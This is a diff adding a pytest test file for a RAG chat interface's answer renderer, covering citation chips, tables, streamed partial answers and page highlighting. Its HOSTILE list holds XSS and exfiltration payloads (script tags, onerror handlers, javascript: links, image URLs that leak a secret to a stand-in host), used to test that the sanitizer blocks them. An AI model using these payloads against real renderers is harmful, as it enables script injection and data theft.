@@ -1,0 +1,149 @@
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from rag.domain import Citation, Document, DocumentState, Quote, Span
+from ui.render import render_answer, render_page_text, render_partial, shorten
+
+DOCUMENT = Document(
+    "d1",
+    "l1",
+    "guide.pdf",
+    "A <guide>",
+    "application/pdf",
+    "00",
+    1,
+    DocumentState.READY,
+    "",
+    9,
+    True,
+)
+
+
+def citation(number: int, marker: Span) -> Citation:
+    quote = Quote(DOCUMENT, 2, "iv", 0, 5, "words")
+    return Citation(number, marker, Span(0, marker.start), quote)
+
+
+def test_a_marker_becomes_a_chip_that_leads_to_its_citation() -> None:
+    html = render_answer("Twelve billion [3].", [citation(3, Span(15, 18))], 7)
+    assert '<a class="cite" href="#cite-7-0"' in html
+    assert 'aria-label="Source 3: A &lt;guide&gt;, page iv"' in html
+    assert re.search(r"billion<a [^>]+>3</a>\.</p>", html)
+
+
+def test_one_marker_may_carry_two_citations() -> None:
+    html = render_answer("So it is [1, 2].", [citation(n, Span(9, 15)) for n in (1, 2)], 0)
+    assert 'href="#cite-0-0"' in html
+    assert 'href="#cite-0-1"' in html
+    assert "[1, 2]" not in html
+
+
+def test_markers_survive_inside_lists_tables_and_emphasis() -> None:
+    text = "- [1] first\n- **bold [1]**\n\n| a | b |\n|---|---|\n| x | 12 B [1] |\n"
+    markers = [Span(*match.span()) for match in re.finditer(r"\[1\]", text)]
+    html = render_answer(text, [citation(1, marker) for marker in markers], 0)
+    assert html.count('class="cite"') == 3
+    assert html.count("<li>") == 2
+    assert '<td class="n">12 B<a' in html
+
+
+def test_numbers_in_tables_and_their_heads_are_aligned() -> None:
+    html = render_answer("| model | size |\n|---|---|\n| a | 46.7 B |\n| b | 141 B |\n", [], 0)
+    assert '<th class="n">size</th>' in html
+    assert "<th>model</th>" in html
+    assert html.count('<td class="n">') == 2
+
+
+HOSTILE = [
+    "![x](http://198.51.100.7/leak?q=secret)",
+    "![x][1]\n\n[1]: http://198.51.100.7/leak",
+    "<img src=http://198.51.100.7/x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<style>*{background:url(http://198.51.100.7)}</style>",
+    '<a href="javascript:alert(1)">x</a>',
+    "[x](javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](//198.51.100.7/a)",
+    "[x](#cite-0-0)",
+    "[x](/gradio_api/file=http://198.51.100.7/)",
+    "<iframe src=http://198.51.100.7></iframe><video poster=http://198.51.100.7>",
+    '<svg onload="alert(1)"><image href="http://198.51.100.7"/></svg>',
+    "<p style=\"background:url('http://198.51.100.7')\">x</p>",
+    "`<img src=x onerror=alert(1)>`",
+    "| <img src=x onerror=alert(1)> |\n|---|\n| a |\n",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("finished", [True, False])
+def test_nothing_in_an_answer_loads_or_runs(text: str, finished: bool) -> None:
+    html = render_answer(text, [], 0) if finished else render_partial(text)
+    tags = re.findall(r"<[^>]*>", html)
+    names = {re.split(r"[\s>]", tag.strip("</"))[0] for tag in tags}
+    assert names <= {"p", "a", "code", "table", "thead", "tbody", "tr", "th", "td", "span"}
+    attributes = {name for tag in tags for name in re.findall(r"\s([\w-]+)=", tag)}
+    assert attributes <= {"href", "rel", "target", "class"}
+    targets = [target for tag in tags for target in re.findall(r'href="([^"]*)"', tag)]
+    assert all(target.startswith(("http://", "https://", "mailto:")) for target in targets)
+
+
+def test_links_open_elsewhere_and_tell_nothing() -> None:
+    html = render_answer("See [the site](https://mistral.ai/x).", [], 0)
+    assert 'href="https://mistral.ai/x"' in html
+    assert 'target="_blank"' in html
+    assert 'rel="noopener noreferrer nofollow"' in html
+
+
+def test_placeholders_in_the_text_of_a_model_are_not_chips() -> None:
+    html = render_answer("a \ue0000\ue001 b [1]", [citation(1, Span(8, 11))], 0)
+    assert html.count('class="cite"') == 1
+    assert "\ue000" not in html
+
+
+@pytest.mark.parametrize("tail", ["[", "[1", "[1,", "[1, 2", " [12"])
+def test_a_half_written_marker_is_hidden(tail: str) -> None:
+    assert render_partial("So it is" + tail) == "<p>So it is</p>\n"
+
+
+@pytest.mark.parametrize(
+    "head", ["|", "| a", "| a | b |\n", "| a | b |\n|--", "| a | b |\n|---|--"]
+)
+def test_the_head_of_a_table_waits_until_it_is_whole(head: str) -> None:
+    assert render_partial("So it is\n\n" + head) == "<p>So it is</p>\n"
+    assert "<th>a</th>" in render_partial("So\n\n| a | b |\n|---|---|\n| c")
+
+
+def test_markers_keep_their_room_while_the_answer_is_written() -> None:
+    html = render_partial("So it is [1]. And")
+    assert '<span class="cite pending">1</span>' in html
+
+
+def test_every_prefix_of_an_answer_renders() -> None:
+    text = "# Head\n\nA **b** [1] `c\n\n| a | b |\n|---|---|\n| 1 [2] | 2 |\n\n1. x\n```\ny [3]\n"
+    for end in range(len(text) + 1):
+        assert "\ue000" not in render_partial(text[:end])
+
+
+def test_page_text_is_escaped_and_its_quote_marked() -> None:
+    html = render_page_text("a <b>\n# Head\nc & d", {Span(2, 5): "open", Span(13, 16): "other"})
+    assert 'a <mark class="open">&lt;b&gt;</mark>' in html
+    assert '<span class="line hd"><i># </i>Head</span>' in html
+    assert '<mark class="other">c &amp;</mark> d' in html
+
+
+def test_a_mark_over_lines_keeps_every_character() -> None:
+    html = render_page_text("one\ntwo\nthree", {Span(1, 9): "open", Span(2, 4): "other"})
+    assert re.findall(r'<mark class="(\w+)">(\w+)</mark>', html) == [
+        ("open", "ne"),
+        ("open", "two"),
+        ("open", "t"),
+    ]
+    assert re.sub(r"<[^>]+>", "", html) == "onetwothree"
+
+
+def test_shortening_ends_at_a_word() -> None:
+    assert shorten("one two  three\nfour", 12) == "one two…"
+    assert shorten("infor\x02\r\nmation", 20) == "information"
